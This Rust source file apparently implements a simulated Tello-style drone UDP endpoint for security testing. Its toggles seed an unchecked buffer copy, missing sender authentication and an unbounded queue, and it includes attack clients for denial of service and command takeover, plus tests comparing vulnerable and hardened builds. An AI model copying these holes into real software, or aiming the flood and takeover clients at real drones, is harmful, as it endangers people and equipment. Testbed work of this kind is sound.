//! Simulated Tello-style UDP endpoint with seeded vulnerabilities, attack
//! clients, and outcome classification.
//!
//! The endpoint's command handler is a generated mini-IR program executed
//! through [`crate::exec`], so every bug reachable over the wire is reachable
//! in-process with the equivalent byte input. Datagrams are framed for the
//! handler as `[queue-length u32 LE][payload-length u32 LE][payload bytes]`.

use std::collections::VecDeque;
use std::io::ErrorKind;
use std::net::{SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::exec::{self, ExecStatus};
use crate::mini_ir::{parse_program, Program};

/// Default command port (the drone's control socket).
pub const DEFAULT_CMD_PORT: u16 = 8889;
/// Default state port (periodic telemetry broadcast).
pub const DEFAULT_STATE_PORT: u16 = 8890;
/// Default state broadcast interval in seconds.
pub const DEFAULT_INTERVAL_SECS: f64 = 0.2;
/// Default receive buffer size in bytes.
pub const DEFAULT_BUFFER_SIZE: usize = 1024;
/// Step budget for one handler execution; the unbounded-queue bug manifests
/// as exhaustion of this budget once the backlog grows past a few hundred.
pub const HANDLER_STEP_BUDGET: u64 = 200_000;

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct VulnToggles {
    /// Copy the datagram into the 1024-slot buffer without a bounds check.
    pub unchecked_copy: bool,
    /// Accept commands from any source address, not just the controller.
    pub no_auth: bool,
    /// Drain the whole backlog per datagram with no cap on queued work.
    pub unbounded_queue: bool,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EndpointConfig {
    pub bind_addr: String,
    pub cmd_port: u16,
    pub state_port: u16,
    pub interval_secs: f64,
    pub buffer_size: usize,
    pub toggles: VulnToggles,
}

impl Default for EndpointConfig {
    fn default() -> Self {
        EndpointConfig {
            bind_addr: "127.0.0.1".to_string(),
            cmd_port: DEFAULT_CMD_PORT,
            state_port: DEFAULT_STATE_PORT,
            interval_secs: DEFAULT_INTERVAL_SECS,
            buffer_size: DEFAULT_BUFFER_SIZE,
            toggles: VulnToggles::default(),
        }
    }
}

impl EndpointConfig {
    pub fn validate(&self) -> Result<(), NetError> {
        if self.cmd_port != 0 && self.cmd_port == self.state_port {
            return Err(NetError::Config("command and state ports must differ"));
        }
        if !(self.interval_secs > 0.0) {
            return Err(NetError::Config("broadcast interval must be positive"));
        }
        if self.buffer_size == 0 {
            return Err(NetError::Config("receive buffer size must be positive"));
        }
        Ok(())
    }
}

#[derive(Debug, Error)]
pub enum NetError {
    #[error("invalid endpoint config: {0}")]
    Config(&'static str),
    #[error("bind failed: {0}")]
    Bind(#[from] std::io::Error),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum FlightMode {
    Grounded,
    Flying,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DroneState {
    pub mode: FlightMode,
    /// Position in centimeters.
    pub position: [i32; 3],
    pub battery: i32,
    #[serde(skip)]
    pub controller: Option<SocketAddr>,
    pub alive: bool,
}

impl Default for DroneState {
    fn default() -> Self {
        DroneState {
            mode: FlightMode::Grounded,
            position: [0, 0, 0],
            battery: 87,
            controller: None,
            alive: true,
        }
    }
}

impl DroneState {
    /// Fig.-3 style state line: semicolon-separated `key:value;` pairs.
    pub fn state_line(&self) -> String {
        format!(
            "mode:{};x:{};y:{};z:{};battery:{};",
            match self.mode {
                FlightMode::Grounded => "Grounded",
                FlightMode::Flying => "Flying",
            },
            self.position[0],
            self.position[1],
            self.position[2],
            self.battery
        )
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum AttackOutcome {
    /// The drone's state tracked at least one attacker-sourced command.
    FullControl { transitions: Vec<String> },
    /// Three consecutive liveness probes failed.
    Crash { failed_probes: u32 },
    NoEffect,
}

impl AttackOutcome {
    pub fn exit_code(&self) -> i32 {
        match self {
            AttackOutcome::FullControl { .. } | AttackOutcome::Crash { .. } => 1,
            AttackOutcome::NoEffect => 0,
        }
    }
}

/// Return-code encoding of the handler program: 0 invalid, 1000 `command`,
/// 2000 `takeoff`, 3000 `land`, 4000+n `up n`, 5000+n `down n`, 6000
/// `battery?`.
pub const RET_INVALID: i32 = 0;

/// Generates the mini-IR source of the command handler for the given
/// vulnerability toggles. The program reads `[qlen][len][payload]` and
/// returns the encoded command class.
pub fn handler_source(toggles: VulnToggles) -> String {
    let mut s = String::new();
    s.push_str("fn main() {\n");
    s.push_str("  i32 qlen; i32 len; i32 i; i32 j; i32 c; i32 r; i32 m; i32 v; i32 b;\n");
    s.push_str("  i32[1024] buf;\n");
    s.push_str("  qlen = input();\n");
    s.push_str("  len = input();\n");
    // Backlog drain: each queued datagram costs a fixed slice of work. The
    // hardened build caps the drained backlog; the vulnerable one does not,
    // so a large enough flood exhausts the step budget.
    if !toggles.unbounded_queue {
        s.push_str("  if (qlen > 16) { qlen = 16; }\n");
    }
    s.push_str("  i = 0;\n");
    s.push_str("  while (i < qlen) {\n");
    s.push_str("    j = 0;\n");
    s.push_str("    while (j < 256) { j = j + 1; }\n");
    s.push_str("    i = i + 1;\n");
    s.push_str("  }\n");
    // Copy the payload into the fixed receive buffer.
    if !toggles.unchecked_copy {
        s.push_str("  if (len > 1024) { return 0; }\n");
    }
    s.push_str("  i = 0;\n");
    s.push_str("  while (i < len) { c = input_byte(); buf[i] = c; i = i + 1; }\n");
    s.push_str("  r = 0;\n");
    // Exact-match commands, compared byte by byte against ASCII codes.
    let exact: &[(&str, i32)] =
        &[("command", 1000), ("takeoff", 2000), ("land", 3000), ("battery?", 6000)];
    for (word, code) in exact {
        s.push_str(&format!("  if (len == {}) {{\n    m = 0;\n", word.len()));
        for (idx, byte) in word.bytes().enumerate() {
            s.push_str(&format!("    if (buf[{idx}] != {byte}) {{ m = 1; }}\n"));
        }
        s.push_str(&format!("    if (m == 0) {{ if (r == 0) {{ r = {code}; }} }}\n  }}\n"));
    }
    // `up <n>` / `down <n>`: prefix match then decimal parse with range check.
    for (word, code) in [("up", 4000), ("down", 5000)] {
        let p = word.len() + 1; // first digit position, past the space
        s.push_str(&format!("  if (len > {p}) {{ if (len < {}) {{\n    m = 0;\n", p + 4));
        for (idx, byte) in word.bytes().enumerate() {
            s.push_str(&format!("    if (buf[{idx}] != {byte}) {{ m = 1; }}\n"));
        }
        s.push_str(&format!("    if (buf[{}] != 32) {{ m = 1; }}\n", p - 1));
        s.push_str(&format!(
            concat!(
                "    if (m == 0) {{\n",
                "      v = 0; b = 0; i = {p};\n",
                "      while (i < len) {{\n",
                "        c = buf[i];\n",
                "        if (c < 48) {{ b = 1; }} else {{ if (c > 57) {{ b = 1; }} }}\n",
                "        if (b == 0) {{ v = v * 10 + c - 48; }}\n",
                "        i = i + 1;\n",
                "      }}\n",
                "      if (v < 20) {{ b = 1; }}\n",
                "      if (v > 500) {{ b = 1; }}\n",
                "      if (b == 0) {{ if (r == 0) {{ r = {code} + v; }} }}\n",
                "    }}\n  }} }}\n",
            ),
            p = p,
            code = code
        ));
    }
    s.push_str("  return r;\n}\n");
    s
}

/// Frames a datagram for the handler program.
pub fn frame_datagram(queue_len: u32, payload: &[u8]) -> Vec<u8> {
    let mut input = Vec::with_capacity(8 + payload.len());
    input.extend_from_slice(&queue_len.to_le_bytes());
    input.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    input.extend_from_slice(payload);
    input
}

/// A running endpoint. Dropping the handle leaves the threads running;
/// call [`Handle::stop`] to shut down cleanly.
pub struct Handle {
    pub cmd_addr: SocketAddr,
    pub state_addr: SocketAddr,
    state: Arc<Mutex<DroneState>>,
    shutdown: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Handle {
    pub fn stop(mut self) {
        self.shutdown.store(true, Ordering::SeqCst);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }

    pub fn snapshot(&self) -> DroneState {
        self.state.lock().unwrap().clone()
    }
}

const POLL: Duration = Duration::from_millis(20);

/// Starts the endpoint: a command loop on the command port and a periodic
/// state broadcast on the state port. Clients subscribe to broadcasts by
/// sending any datagram to the state port.
pub fn serve(config: EndpointConfig) -> Result<Handle, NetError> {
    config.validate()?;
    let program = Arc::new(
        parse_program(&handler_source(config.toggles)).expect("generated handler must parse"),
    );
    let cmd_sock = UdpSocket::bind((config.bind_addr.as_str(), config.cmd_port))?;
    let state_sock = UdpSocket::bind((config.bind_addr.as_str(), config.state_port))?;
    cmd_sock.set_read_timeout(Some(POLL))?;
    state_sock.set_read_timeout(Some(POLL))?;
    let cmd_addr = cmd_sock.local_addr()?;
    let state_addr = state_sock.local_addr()?;

    let state = Arc::new(Mutex::new(DroneState::default()));
    let shutdown = Arc::new(AtomicBool::new(false));

    let cmd_thread = {
        let state = Arc::clone(&state);
        let shutdown = Arc::clone(&shutdown);
        let config = config.clone();
        thread::spawn(move || cmd_loop(&cmd_sock, &program, &state, &shutdown, &config))
    };

    let state_thread = {
        let state = Arc::clone(&state);
        let shutdown = Arc::clone(&shutdown);
        let interval = Duration::from_secs_f64(config.interval_secs);
        thread::spawn(move || state_loop(&state_sock, &state, &shutdown, interval))
    };

    Ok(Handle { cmd_addr, state_addr, state, shutdown, threads: vec![cmd_thread, state_thread] })
}

fn cmd_loop(
    sock: &UdpSocket,
    program: &Program,
    state: &Mutex<DroneState>,
    shutdown: &AtomicBool,
    config: &EndpointConfig,
) {
    let mut buf = vec![0u8; 65_536];
    let mut queue: VecDeque<(Vec<u8>, SocketAddr)> = VecDeque::new();
    while !shutdown.load(Ordering::SeqCst) {
        // Blocking wait for the first datagram, then a non-blocking drain so
        // the handler sees the real backlog length.
        match sock.recv_from(&mut buf) {
            Ok((n, src)) => queue.push_back((buf[..n].to_vec(), src)),
            Err(e) if e.kind() == ErrorKind::WouldBlock || e.kind() == ErrorKind::TimedOut => {
                continue
            }
            Err(_) => break,
        }
        sock.set_nonblocking(true).ok();
        while let Ok((n, src)) = sock.recv_from(&mut buf) {
            queue.push_back((buf[..n].to_vec(), src));
        }
        sock.set_nonblocking(false).ok();
        sock.set_read_timeout(Some(POLL)).ok();

        while let Some((payload, src)) = queue.pop_front() {
            let qlen = queue.len() as u32 + 1;
            if !config.toggles.no_auth {
                let mut st = state.lock().unwrap();
                match st.controller {
                    None => st.controller = Some(src),
                    Some(c) if c != src => {
                        drop(st);
                        let _ = sock.send_to(b"error", src);
                        continue;
                    }
                    _ => {}
                }
            }
            let input = frame_datagram(qlen, &payload);
            let outcome = exec::run(program, &input, HANDLER_STEP_BUDGET);
            let ret = match outcome.status {
                ExecStatus::Completed { ret } => ret,
                // A handler fault or budget exhaustion kills the endpoint:
                // no more replies, no more broadcasts.
                ExecStatus::Fault { .. } | ExecStatus::BudgetExhausted => {
                    state.lock().unwrap().alive = false;
                    shutdown.store(true, Ordering::SeqCst);
                    return;
                }
            };
            let reply = if ret == RET_INVALID {
                "error"
            } else {
                let mut st = state.lock().unwrap();
                apply_command(&mut st, ret);
                "ok"
            };
            let _ = sock.send_to(reply.as_bytes(), src);
        }
    }
}

fn apply_command(st: &mut DroneState, ret: i32) {
    match ret {
        2000 => st.mode = FlightMode::Flying,
        3000 => st.mode = FlightMode::Grounded,
        4000..=4500 => st.position[2] += ret - 4000,
        5000..=5500 => st.position[2] -= ret - 5000,
        _ => {} // `command` and `battery?` cause no state transition
    }
}

fn state_loop(
    sock: &UdpSocket,
    state: &Mutex<DroneState>,
    shutdown: &AtomicBool,
    interval: Duration,
) {
    let mut buf = [0u8; 256];
    let mut subscribers: Vec<SocketAddr> = Vec::new();
    let mut last = Instant::now();
    while !shutdown.load(Ordering::SeqCst) {
        if let Ok((_, src)) = sock.recv_from(&mut buf) {
            if !subscribers.contains(&src) {
                subscribers.push(src);
            }
        }
        if last.elapsed() >= interval {
            last = Instant::now();
            let st = state.lock().unwrap();
            if !st.alive {
                return;
            }
            let line = st.state_line();
            drop(st);
            for s in &subscribers {
                let _ = sock.send_to(line.as_bytes(), s);
            }
        }
    }
}

/// Sends `command` probes expecting `ok`; returns how many failed.
pub fn probe_liveness(target: SocketAddr, probes: u32, interval: Duration) -> u32 {
    let sock = UdpSocket::bind("127.0.0.1:0").expect("bind probe socket");
    probe_liveness_from(&sock, target, probes, interval)
}

/// Liveness probes from an existing socket, so a probe after an attack uses
/// the same source address the endpoint already knows.
pub fn probe_liveness_from(
    sock: &UdpSocket,
    target: SocketAddr,
    probes: u32,
    interval: Duration,
) -> u32 {
    sock.set_read_timeout(Some(Duration::from_millis(500))).ok();
    let mut failed = 0;
    let mut buf = [0u8; 64];
    for i in 0..probes {
        if i > 0 {
            thread::sleep(interval);
        }
        let _ = sock.send_to(b"command", target);
        // drain until the reply to this probe or timeout; stale flood
        // replies may still be queued
        loop {
            match sock.recv_from(&mut buf) {
                Ok((n, _)) if &buf[..n] == b"ok" => break,
                Ok(_) => continue,
                Err(_) => {
                    failed += 1;
                    break;
                }
            }
        }
    }
    failed
}

/// Denial-of-service client: oversize datagrams plus a command flood, then
/// three liveness probes. `probe_interval` defaults to one second in the CLI;
/// tests shorten it.
pub fn attack_dos(
    target: SocketAddr,
    flood_count: u32,
    probe_interval: Duration,
) -> AttackOutcome {
    let sock = UdpSocket::bind("127.0.0.1:0").expect("bind attack socket");
    let oversize = vec![b'A'; 2048];
    for _ in 0..4 {
        let _ = sock.send_to(&oversize, target);
    }
    for _ in 0..flood_count {
        let _ = sock.send_to(b"command", target);
    }
    // flush stale replies so the probes below see only their own answers
    thread::sleep(probe_interval);
    sock.set_nonblocking(true).ok();
    let mut drain = [0u8; 2048];
    while sock.recv_from(&mut drain).is_ok() {}
    sock.set_nonblocking(false).ok();
    let failed = probe_liveness_from(&sock, target, 3, probe_interval);
    if failed >= 3 {
        AttackOutcome::Crash { failed_probes: failed }
    } else {
        AttackOutcome::NoEffect
    }
}

/// Takeover client: establishes a legitimate controller session from one
/// socket, then injects `takeoff` / `up 50` / `land` from a second source
/// address while watching the state broadcasts.
pub fn attack_takeover(
    target: SocketAddr,
    state_addr: SocketAddr,
    settle: Duration,
) -> AttackOutcome {
    let legit = UdpSocket::bind("127.0.0.1:0").expect("bind controller socket");
    legit.set_read_timeout(Some(Duration::from_millis(500))).ok();
    let mut buf = [0u8; 512];
    let _ = legit.send_to(b"command", target);
    let _ = legit.recv_from(&mut buf);

    let attacker = UdpSocket::bind("127.0.0.1:0").expect("bind attacker socket");
    attacker.set_read_timeout(Some(Duration::from_millis(200))).ok();
    let watcher = UdpSocket::bind("127.0.0.1:0").expect("bind state watcher");
    watcher.set_read_timeout(Some(Duration::from_millis(200))).ok();
    let _ = watcher.send_to(b"subscribe", state_addr);

    let observe = |deadline: Duration| -> Option<String> {
        let start = Instant::now();
        let mut last = None;
        let mut b = [0u8; 512];
        while start.elapsed() < deadline {
            if let Ok((n, _)) = watcher.recv_from(&mut b) {
                last = Some(String::from_utf8_lossy(&b[..n]).into_owned());
            }
        }
        last
    };

    let before = observe(settle).unwrap_or_default();
    let mut transitions = Vec::new();
    let mut prev = before;
    for cmd in ["takeoff", "up 50", "land"] {
        let _ = attacker.send_to(cmd.as_bytes(), target);
        let _ = attacker.recv_from(&mut buf);
        if let Some(after) = observe(settle) {
            if after != prev {
                transitions.push(format!("{cmd} => {after}"));
                prev = after;
            }
        }
    }
    if transitions.is_empty() {
        AttackOutcome::NoEffect
    } else {
        AttackOutcome::FullControl { transitions }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn test_config(toggles: VulnToggles) -> EndpointConfig {
        EndpointConfig {
            cmd_port: 0,
            state_port: 0,
            interval_secs: 0.05,
            toggles,
            ..EndpointConfig::default()
        }
    }

    fn client() -> UdpSocket {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
        s
    }

    fn exchange(sock: &UdpSocket, target: SocketAddr, msg: &[u8]) -> Option<String> {
        sock.send_to(msg, target).unwrap();
        let mut buf = [0u8; 256];
        sock.recv_from(&mut buf).ok().map(|(n, _)| String::from_utf8_lossy(&buf[..n]).into_owned())
    }

    fn run_handler(toggles: VulnToggles, qlen: u32, payload: &[u8]) -> ExecStatus {
        let program = parse_program(&handler_source(toggles)).unwrap();
        exec::run(&program, &frame_datagram(qlen, payload), HANDLER_STEP_BUDGET).status
    }

    #[test]
    fn handler_classifies_the_grammar() {
        let t = VulnToggles::default();
        let cases: &[(&[u8], i32)] = &[
            (b"command", 1000),
            (b"takeoff", 2000),
            (b"land", 3000),
            (b"battery?", 6000),
            (b"up 50", 4050),
            (b"up 20", 4020),
            (b"up 500", 4500),
            (b"down 135", 5135),
            (b"explode", 0),
            (b"up 19", 0),
            (b"up 501", 0),
            (b"up x5", 0),
            (b"up ", 0),
            (b"takeoff 30", 0),
            (b"", 0),
        ];
        for (payload, want) in cases {
            match run_handler(t, 1, payload) {
                ExecStatus::Completed { ret } => {
                    assert_eq!(ret, *want, "payload {:?}", String::from_utf8_lossy(payload))
                }
                other => panic!("unexpected {other:?} for {payload:?}"),
            }
        }
    }

    #[test]
    fn unchecked_copy_faults_in_process_on_oversize_input() {
        let t = VulnToggles { unchecked_copy: true, ..Default::default() };
        let oversize = vec![b'A'; 1025];
        match run_handler(t, 1, &oversize) {
            ExecStatus::Fault { kind, .. } => {
                assert_eq!(kind, crate::mini_ir::FaultKind::BufferOverflow)
            }
            other => panic!("expected buffer overflow, got {other:?}"),
        }
        // the hardened handler rejects the same datagram instead
        match run_handler(VulnToggles::default(), 1, &oversize) {
            ExecStatus::Completed { ret } => assert_eq!(ret, RET_INVALID),
            other => panic!("expected clean rejection, got {other:?}"),
        }
    }

    #[test]
    fn unbounded_queue_exhausts_budget_at_large_backlog() {
        let t = VulnToggles { unbounded_queue: true, ..Default::default() };
        assert_eq!(run_handler(t, 2000, b"command"), ExecStatus::BudgetExhausted);
        // the capped handler shrugs off the same backlog
        assert!(matches!(
            run_handler(VulnToggles::default(), 2000, b"command"),
            ExecStatus::Completed { ret: 1000 }
        ));
    }

    #[test]
    fn wire_replies_match_the_grammar() {
        let h = serve(test_config(VulnToggles { no_auth: true, ..Default::default() })).unwrap();
        let c = client();
        assert_eq!(exchange(&c, h.cmd_addr, b"command").as_deref(), Some("ok"));
        assert_eq!(exchange(&c, h.cmd_addr, b"explode").as_deref(), Some("error"));
        assert_eq!(exchange(&c, h.cmd_addr, b"takeoff").as_deref(), Some("ok"));
        assert_eq!(exchange(&c, h.cmd_addr, b"up 50").as_deref(), Some("ok"));
        let st = h.snapshot();
        assert_eq!(st.mode, FlightMode::Flying);
        assert_eq!(st.position[2], 50);
        h.stop();
    }

    #[test]
    fn oversize_datagram_kills_the_unchecked_endpoint() {
        let h = serve(test_config(VulnToggles {
            unchecked_copy: true,
            no_auth: true,
            ..Default::default()
        }))
        .unwrap();
        let c = client();
        assert_eq!(exchange(&c, h.cmd_addr, b"command").as_deref(), Some("ok"));
        let oversize = vec![b'B'; 1500];
        assert_eq!(exchange(&c, h.cmd_addr, &oversize), None);
        assert_eq!(probe_liveness(h.cmd_addr, 3, Duration::from_millis(50)), 3);
        assert!(!h.snapshot().alive);
        h.stop();
    }

    #[test]
    fn dos_crashes_vulnerable_and_spares_hardened() {
        let vulnerable = serve(test_config(VulnToggles {
            unchecked_copy: true,
            no_auth: true,
            ..Default::default()
        }))
        .unwrap();
        let outcome = attack_dos(vulnerable.cmd_addr, 50, Duration::from_millis(50));
        assert!(matches!(outcome, AttackOutcome::Crash { failed_probes: 3 }));
        vulnerable.stop();

        let hardened = serve(test_config(VulnToggles { no_auth: true, ..Default::default() })).unwrap();
        let outcome = attack_dos(hardened.cmd_addr, 50, Duration::from_millis(50));
        assert_eq!(outcome, AttackOutcome::NoEffect);
        hardened.stop();
    }

    #[test]
    fn takeover_succeeds_without_auth_and_fails_with_it() {
        let open = serve(test_config(VulnToggles { no_auth: true, ..Default::default() })).unwrap();
        let outcome = attack_takeover(open.cmd_addr, open.state_addr, Duration::from_millis(150));
        match outcome {
            AttackOutcome::FullControl { transitions } => {
                assert!(transitions.iter().any(|t| t.contains("Flying")), "{transitions:?}")
            }
            other => panic!("expected full control, got {other:?}"),
        }
        open.stop();

        let locked = serve(test_config(VulnToggles::default())).unwrap();
        let outcome =
            attack_takeover(locked.cmd_addr, locked.state_addr, Duration::from_millis(150));
        assert_eq!(outcome, AttackOutcome::NoEffect);
        assert_eq!(locked.snapshot().mode, FlightMode::Grounded);
        locked.stop();
    }

    #[test]
    fn hardened_endpoint_survives_a_random_flood() {
        use rand::{Rng, SeedableRng};
        let h = serve(test_config(VulnToggles::default())).unwrap();
        let sock = client();
        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(11);
        for _ in 0..10_000 {
            let len = rng.random_range(0..1400usize);
            let datagram: Vec<u8> = (0..len).map(|_| rng.random::<u8>()).collect();
            let _ = sock.send_to(&datagram, h.cmd_addr);
        }
        // the flood sender owns the controller slot; probe from the same socket
        let mut ok = false;
        let mut buf = [0u8; 64];
        for _ in 0..3 {
            thread::sleep(Duration::from_millis(100));
            let _ = sock.send_to(b"command", h.cmd_addr);
            loop {
                match sock.recv_from(&mut buf) {
                    Ok((n, _)) if &buf[..n] == b"ok" => {
                        ok = true;
                        break;
                    }
                    Ok(_) => continue,
                    Err(_) => break,
                }
            }
            if ok {
                break;
            }
        }
        assert!(ok, "hardened endpoint died under random flood");
        assert!(h.snapshot().alive);
        h.stop();
    }

    #[test]
    fn broadcast_cadence_is_roughly_the_interval() {
        let h = serve(test_config(VulnToggles::default())).unwrap();
        let watcher = client();
        watcher.send_to(b"subscribe", h.state_addr).unwrap();
        let mut stamps = Vec::new();
        let mut buf = [0u8; 256];
        let start = Instant::now();
        while stamps.len() < 5 && start.elapsed() < Duration::from_secs(3) {
            if let Ok((n, _)) = watcher.recv_from(&mut buf) {
                let line = String::from_utf8_lossy(&buf[..n]);
                assert!(line.contains("mode:") && line.ends_with(';'), "{line}");
                stamps.push(Instant::now());
            }
        }
        assert!(stamps.len() >= 5, "too few broadcasts");
        for w in stamps.windows(2) {
            let gap = (w[1] - w[0]).as_secs_f64();
            assert!(gap < 0.05 * 2.5, "gap {gap} outside interval tolerance");
        }
        h.stop();
    }

    #[test]
    fn config_invariants_are_enforced() {
        let mut c = EndpointConfig::default();
        c.state_port = c.cmd_port;
        assert!(c.validate().is_err());
        let mut c = EndpointConfig::default();
        c.interval_secs = 0.0;
        assert!(c.validate().is_err());
        let mut c = EndpointConfig::default();
        c.buffer_size = 0;
        assert!(c.validate().is_err());
    }
}
